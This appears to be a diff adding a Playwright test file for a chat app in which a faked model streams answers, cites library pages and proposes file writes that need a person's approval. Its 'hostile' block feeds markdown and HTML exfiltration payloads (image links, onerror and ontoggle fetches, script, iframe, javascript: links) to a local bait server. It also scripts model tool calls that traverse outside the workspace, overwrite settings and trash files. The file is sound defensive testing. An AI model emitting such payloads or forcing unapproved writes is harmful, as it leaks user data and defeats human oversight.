@@ -1,0 +1,277 @@
+import { existsSync, readFileSync, realpathSync, rmSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { expect, test } from '@playwright/test'
+import {
+  answers,
+  approveCard,
+  ask,
+  card,
+  citation,
+  dangerDialog,
+  decide,
+  documentIs,
+  dropOn,
+  goTo,
+  idle,
+  newChat,
+  openApp,
+  rejectCard,
+  send,
+} from '../support/app-page'
+import {
+  answer,
+  type FakeMessagesApi,
+  html,
+  startFakeMessagesApi,
+  text,
+  toolUse,
+} from '../support/fake-messages-api'
+import { fileFacts, filesToTrash, writeFilesToTrash } from '../support/files-to-trash'
+import { highlightsInside, pageImage } from '../support/page-image'
+import { facts, writeSampleDocuments } from '../support/sample-documents'
+import { freshFolder, type RunningHost, startHost } from '../support/start-host'
+import { watchPage } from '../support/watch-page'
+
+/** The chunk of a stream that holds the second piece of its first text: message start, ping, block start and first piece precede it. */
+const secondPiece = 4
+
+test.describe('the main job through a model', () => {
+  let api: FakeMessagesApi
+  let host: RunningHost
+  let work: string
+  let papers: string
+
+  test.beforeAll(async () => {
+    api = await startFakeMessagesApi()
+    work = realpathSync(freshFolder('work'))
+    papers = realpathSync(freshFolder('papers'))
+    writeSampleDocuments(papers)
+    host = await startHost({
+      roots: [work],
+      environment: {
+        ANTHROPIC_BASE_URL: api.url,
+        ANTHROPIC_API_KEY: 'test-key',
+        COUNTERSIGN_MODEL: 'fake-model',
+      },
+    })
+  })
+  test.afterAll(async () => {
+    await host.stop()
+    await api.close()
+    for (const folder of [host.data, work, papers]) rmSync(folder, { recursive: true, force: true })
+  })
+  test.beforeEach(async ({ page }) => {
+    await openApp(page, host.url)
+    await newChat(page)
+  })
+
+  test('shows text while it streams', async ({ page }) => {
+    const rest = Promise.withResolvers<void>()
+    api.push(
+      answer([text(['The tide ', 'turns at noon.'])], {
+        pause: { beforeChunk: secondPiece, until: rest.promise },
+      }),
+    )
+    await send(page, 'When does the tide turn?')
+    await expect(answers(page).last()).toContainText('The tide')
+    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible()
+    await expect(answers(page).last()).not.toContainText('noon')
+    rest.resolve()
+    await idle(page)
+    await expect(answers(page).last()).toContainText('The tide turns at noon.')
+  })
+
+  test('lets the model search the library and opens the page that it cites', async ({ page }) => {
+    const { handbook } = facts
+    await dropOn(page, 'Add to library', [join(papers, handbook.file)])
+    await goTo(page, 'Library')
+    await documentIs(page, handbook.title, 'Ready')
+    await goTo(page, 'Chat')
+    api.push(
+      answer([toolUse('search_library', { query: 'sluice gate Marrow Point' })]),
+      answer([text(`It opens at four metres above chart datum [${handbook.title}, p. ${handbook.page}].`)]),
+    )
+    await ask(page, handbook.question)
+    await citation(page, handbook.title, handbook.page).first().click()
+    const image = pageImage(page, handbook.title, handbook.page)
+    await expect(image).toBeVisible()
+    await expect.poll(() => highlightsInside(page, image)).toBeGreaterThanOrEqual(1)
+  })
+
+  test('writes a file for the model only once it is approved, and tells the model', async ({ page }) => {
+    const path = join(work, 'by-model.md')
+    const content = '# By the model\n\nLine with “marks”\n'
+    api.push(
+      answer([text('I will write it.'), toolUse('create_file', { path, content })]),
+      answer([text('It is written.')]),
+    )
+    await send(page, 'Write it down')
+    await expect(card(page, 'by-model.md')).toContainText('By the model')
+    expect(existsSync(path)).toBe(false)
+    const before = api.created.length
+    await approveCard(page, 'by-model.md')
+    await idle(page)
+    await expect(answers(page).last()).toContainText('It is written.')
+    expect(readFileSync(path, 'utf8')).toBe(content)
+    expect(api.created.length).toBe(before + 1)
+    expect(JSON.stringify(api.created.at(-1)?.messages.at(-1))).toContain('tool_result')
+  })
+
+  test('gives the model the reason of a rejection', async ({ page }) => {
+    const path = join(work, 'rejected.md')
+    api.push(answer([toolUse('create_file', { path, content: 'no' })]), answer([text('Understood.')]))
+    await send(page, 'Write something')
+    await rejectCard(page, 'rejected.md', 'Put it in the archive')
+    await idle(page)
+    expect(JSON.stringify(api.created.at(-1)?.messages.at(-1))).toContain('Put it in the archive')
+    expect(existsSync(path)).toBe(false)
+  })
+
+  test('keeps what had arrived when it is stopped, and goes on after it', async ({ page }) => {
+    const never = Promise.withResolvers<void>()
+    api.push(
+      answer([text(['Half a sentence ', 'and the rest.'])], {
+        pause: { beforeChunk: secondPiece, until: never.promise },
+      }),
+    )
+    await send(page, 'Tell me a lot')
+    await expect(answers(page).last()).toContainText('Half a sentence')
+    await page.getByRole('button', { name: 'Stop' }).click()
+    await idle(page)
+    never.resolve()
+    await expect(page.getByText('You stopped this. What had arrived is kept.')).toBeVisible()
+    await page.reload()
+    await expect(answers(page).last()).toContainText('Half a sentence')
+    await expect(answers(page).last()).not.toContainText('and the rest')
+    api.push(answer([text('Gladly.')]))
+    await ask(page, 'Go on')
+    await expect(answers(page).last()).toContainText('Gladly.')
+  })
+
+  for (const [name, how] of [
+    ['an error in the stream', { error: { type: 'overloaded_error', message: 'Overloaded' } }],
+    ['a cut connection', { end: 'cut' }],
+    ['an end without its last event', { end: 'close' }],
+  ] as const) {
+    test(`keeps what had arrived before ${name}, and Retry works`, async ({ page }) => {
+      api.push(answer([text(['First part ', 'of it'])], how))
+      await send(page, 'Say it')
+      await expect(page.getByText('The answer could not be finished')).toBeVisible()
+      await expect(answers(page).last()).toContainText('First part of it')
+      api.push(answer([text('All of it.')]))
+      await page.getByRole('button', { name: 'Retry' }).click()
+      await expect(answers(page).last()).toContainText('All of it.')
+      await idle(page)
+      await expect(page.getByText('First part of it')).toBeVisible()
+    })
+  }
+
+  test('says what is wrong when the address answers with a web page', async ({ page }) => {
+    api.push(html())
+    await send(page, 'Hello')
+    await expect(page.getByText('The answer could not be finished')).toBeVisible()
+    await expect(page.getByText('Hello', { exact: true }).last()).toBeVisible()
+    api.push(answer([text('Back again.')]))
+    await page.getByRole('button', { name: 'Retry' }).click()
+    await expect(answers(page).last()).toContainText('Back again.')
+  })
+
+  test.describe('that is hostile', () => {
+    let attacker: Server
+    let bait: string
+    let hits: string[]
+
+    test.beforeAll(async () => {
+      hits = []
+      attacker = createServer((request, response) => {
+        hits.push(request.url ?? '')
+        response.setHeader('access-control-allow-origin', '*')
+        response.end()
+      })
+      await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
+      // A listening TCP server has an address of this form.
+      bait = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
+    })
+    test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())))
+
+    test('fetches nothing and runs nothing that stands in its answer, at any cut of the stream', async ({
+      page,
+    }) => {
+      const watch = await watchPage(page)
+      const markdown = [
+        `![picture](${bait}/image.png?stolen=words)`,
+        `![by reference][there]`,
+        `<img src="${bait}/html.png" onerror="fetch('${bait}/error')">`,
+        `<script src="${bait}/script.js"></script>`,
+        `<iframe src="${bait}/frame"></iframe>`,
+        `<style>@import url(${bait}/style.css);</style>`,
+        `<svg><image href="${bait}/svg.png"/></svg>`,
+        `<link rel="stylesheet" href="${bait}/link.css">`,
+        `[click](javascript:fetch('${bait}/javascript'))`,
+        `[plain](${bait}/plain)`,
+        `<details open ontoggle="fetch('${bait}/toggle')">x</details>`,
+        '',
+        `[there]: ${bait}/reference.png`,
+        '',
+        'That was all.',
+      ].join('\n\n')
+      api.push(answer([text([...markdown])], { chunking: 1 + (markdown.length % 7) }))
+      await ask(page, 'Show me')
+      await expect(answers(page).last()).toContainText('That was all.')
+      await page.reload()
+      await expect(answers(page).last()).toContainText('That was all.')
+      expect(await answers(page).last().locator('img, script, iframe, style, svg image, link').count()).toBe(
+        0,
+      )
+      expect(await page.locator('a[href^="javascript:"]').count()).toBe(0)
+      expect(watch.strangers()).toEqual([])
+      expect(watch.errors).toEqual([])
+      expect(hits).toEqual([])
+    })
+
+    test('changes nothing without a person, however often it tries', async ({ page }) => {
+      const before = writeFilesToTrash(work)
+      const outside = join(papers, 'planted.md')
+      const applied = async () => {
+        await goTo(page, 'Activity')
+        const count = await page.getByRole('article').filter({ hasNotText: 'Add document' }).count()
+        await goTo(page, 'Chat')
+        return count
+      }
+      const ledger = await applied()
+      await newChat(page)
+      api.respond(() =>
+        answer([
+          text('Working on it.'),
+          toolUse('create_file', { path: outside, content: 'planted' }),
+          toolUse('create_file', { path: join(work, '..', 'sibling.md'), content: 'planted' }),
+          toolUse('create_file', { path: join(host.data, 'settings.json'), content: '{}' }),
+          toolUse('trash_files', { paths: filesToTrash.map((name) => join(work, name)) }),
+        ]),
+      )
+      try {
+        await send(page, 'Tidy up')
+        for (const attempt of ['first', 'second'] as const) {
+          await expect(dangerDialog(page), attempt).toBeVisible()
+          await decide(dangerDialog(page), 'Cancel')
+          await rejectCard(page, filesToTrash[0], `No, not the ${attempt} time either`)
+        }
+        await expect(dangerDialog(page)).toBeVisible()
+        await decide(dangerDialog(page), 'Cancel')
+        await page.getByRole('button', { name: 'Stop' }).click()
+        await idle(page)
+      } finally {
+        api.respond(() => answer([text('Done.')]))
+      }
+      for (const name of filesToTrash) expect(fileFacts(join(work, name))).toEqual(before[name])
+      expect(existsSync(outside)).toBe(false)
+      expect(existsSync(join(work, '..', 'sibling.md'))).toBe(false)
+      expect(existsSync(join(host.data, 'settings.json'))).toBe(false)
+      expect(await applied()).toBe(ledger)
+      await goTo(page, 'Inbox')
+      await expect(page.getByText('Nothing waits for you')).toBeVisible()
+    })
+  })
+})
